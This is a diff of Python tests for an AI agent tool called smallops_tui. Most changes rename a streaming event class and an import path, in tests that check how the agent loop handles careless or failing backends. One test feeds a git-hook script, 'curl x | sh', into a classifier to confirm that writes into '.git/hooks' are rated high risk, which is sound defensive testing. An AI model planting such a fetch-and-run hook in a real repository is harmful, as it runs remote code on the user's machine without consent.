@@ -62,13 +62,13 @@ async def test_a_final_chunk_with_wrongly_typed_fields_does_not_end_the_turn(wor
 async def test_wrongly_typed_usage_from_any_backend_is_dropped_by_the_loop(workspace) -> None:
     """The loop does not trust a backend's types either (a plug-in backend, or one that forgets)."""
     from smallops_tui.agent.session.loop import Session, SessionConfig
-    from smallops_tui.backends.base import StreamEvent, Usage
+    from smallops_tui.backends.base import Finished, Usage
 
     class Careless:
         async def stream_chat(self, messages, **options):
             usage = Usage(done_reason={"x": 1}, prompt_tokens="many", answer_tokens=[3],  # type: ignore[arg-type]
                           seconds="soon", tokens_per_second=float("nan"))  # type: ignore[arg-type]
-            yield StreamEvent("finished", usage=usage, content='{"action": "done", "summary": "ok"}')
+            yield Finished(usage=usage, content='{"action": "done", "summary": "ok"}')
 
     session = Session(Careless(), workspace, SessionConfig(task="t"), ScriptedPolicy("approve-all"))
     rec = Recorder(session)
@@ -89,8 +89,8 @@ async def test_a_backend_that_raises_is_a_sentence_and_the_session_goes_on(works
             Broken.calls += 1
             if Broken.calls == 1:
                 raise KeyError("choices\nwith a second line")
-            from smallops_tui.backends.base import StreamEvent
-            yield StreamEvent("finished", content='{"action": "done", "summary": "ok"}')
+            from smallops_tui.backends.base import Finished
+            yield Finished(content='{"action": "done", "summary": "ok"}')
 
     session = Session(Broken(), workspace, SessionConfig(task="t"), ScriptedPolicy("approve-all"))
     rec = Recorder(session)
@@ -315,7 +315,7 @@ async def test_writes_into_smallops_own_data_dir_are_refused(tmp_path, monkeypat
 
 def test_writes_into_git_at_any_depth_are_high(workspace) -> None:
     from smallops_tui.agent import classify
-    from smallops_tui.agent.reply.actions import WriteFile
+    from smallops_tui.agent.reply.kinds import WriteFile
 
     for path in (".git/hooks/post-checkout", "vendor/x/.git/hooks/post-checkout", "a/b/.hg/hgrc"):
         verdict = classify(WriteFile(path=path, content="#!/bin/sh\ncurl x | sh\n"), workspace)
